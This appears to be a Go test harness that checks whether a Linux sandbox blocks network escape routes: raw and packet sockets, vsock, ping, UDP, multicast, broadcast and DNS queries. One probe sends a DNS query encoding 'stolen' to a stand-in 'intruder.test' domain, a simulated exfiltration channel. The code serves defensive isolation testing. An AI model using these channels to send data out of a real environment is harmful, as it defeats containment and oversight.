//go:build linux

package main

import (
	"errors"
	"fmt"
	"net"
	"net/netip"
	"time"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/sys/unix"
)

// packets are attacks below TCP. The argument is an address at which a host listens for
// all of them.
func packets(args []string) []attack {
	to := args[0]
	list := []attack{}
	for name, s := range map[string][3]int{
		"raw IPv4 socket": {unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW}, "raw ICMP socket": {unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP},
		"raw IPv6 socket": {unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6}, "packet socket": {unix.AF_PACKET, unix.SOCK_RAW, 0x0300},
		"raw TCP socket": {unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_TCP}, "vsock": {unix.AF_VSOCK, unix.SOCK_STREAM, 0},
	} {
		list = append(list, attack{name, func() error {
			fd, err := unix.Socket(s[0], s[1], s[2])
			if err != nil {
				return nil
			}
			defer unix.Close(fd)
			if s[0] == unix.AF_VSOCK { // it leads nowhere
				return must(unix.Connect(fd, &unix.SockaddrVM{CID: unix.VMADDR_CID_HOST, Port: 1024}), "connect")
			}
			return errors.New("it was made")
		}})
	}
	list = append(list, attack{"ping", func() error { return ping(to) }})
	for _, port := range []string{"1", "67", "123", "443", "5353", "8125", "33434"} {
		list = append(list, attack{"UDP to port " + port, func() error { return answered("udp4", net.JoinHostPort(to, port)) }})
	}
	list = append(list,
		attack{"UDP over IPv6", func() error { return answered("udp6", "[2001:db8::1]:443") }},
		attack{"multicast", func() error { return answered("udp4", "224.0.0.251:5353") }},
		attack{"broadcast", func() error { return answered("udp4", "255.255.255.255:67") }},
	)
	for _, server := range []string{to, "127.0.0.1", "192.0.2.53", "169.254.169.253", "127.0.0.11"} {
		for _, network := range []string{"udp4", "tcp4"} {
			list = append(list, attack{"DNS at " + server + " by " + network, func() error { return askDNS(network, server) }})
		}
	}
	return list
}

func ping(to string) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP)
	if err != nil {
		return nil
	}
	defer unix.Close(fd)
	at := &unix.SockaddrInet4{Addr: netip.MustParseAddr(to).As4()}
	if err := unix.Sendto(fd, []byte{8, 0, 0, 0, 0, 0, 0, 1}, 0, at); err != nil {
		return nil
	}
	_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Usec: wait.Microseconds()})
	_, _, err = unix.Recvfrom(fd, make([]byte, 100), 0)
	return must(err, "it")
}

// answered sends a datagram and reports an answer to it.
func answered(network, addr string) error {
	conn, err := net.Dial(network, addr)
	if err != nil {
		return nil
	}
	defer conn.Close()
	_, _ = conn.Write([]byte("anybody there?"))
	_ = conn.SetReadDeadline(time.Now().Add(wait / 3))
	_, err = conn.Read(make([]byte, 1500))
	return must(err, "an answer")
}

// askDNS asks a server for names of all types. Only the stub may answer, without asking
// anybody: with stand-ins for addresses and nothing else.
func askDNS(network, server string) error {
	for _, kind := range []dnsmessage.Type{dnsmessage.TypeA, dnsmessage.TypeAAAA, dnsmessage.TypeTXT, dnsmessage.TypeMX, dnsmessage.TypeCNAME, dnsmessage.TypeNS, dnsmessage.TypeALL} {
		m, err := exchangeDNS(network, server, kind)
		if err != nil {
			return err
		}
		for _, r := range m.Answers {
			a, ok := r.Body.(*dnsmessage.AResource)
			if !ok || !netip.MustParsePrefix("198.18.0.0/15").Contains(netip.AddrFrom4(a.A)) {
				return fmt.Errorf("%v", r)
			}
		}
		if kind == dnsmessage.TypeA && len(m.Answers) != 1 {
			return fmt.Errorf("%d answers", len(m.Answers))
		}
	}
	return nil
}

func exchangeDNS(network, server string, kind dnsmessage.Type) (m dnsmessage.Message, err error) {
	conn, err := net.DialTimeout(network, net.JoinHostPort(server, "53"), 5*time.Second)
	if err != nil {
		return m, err
	}
	defer conn.Close()
	q := dnsmessage.Message{
		Header:    dnsmessage.Header{ID: 7, RecursionDesired: true},
		Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName("c3RvbGVu.intruder.test."), Type: kind, Class: dnsmessage.ClassINET}},
	}
	b, err := q.Pack()
	if err != nil {
		return m, err
	}
	if network == "tcp4" {
		b = append([]byte{0, byte(len(b))}, b...)
	}
	_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := conn.Write(b); err != nil {
		return m, err
	}
	in := make([]byte, 1500)
	n, err := conn.Read(in)
	if err != nil {
		return m, err
	}
	in = in[:n]
	if network == "tcp4" && n > 2 {
		in = in[2:]
	}
	return m, m.Unpack(in)
}
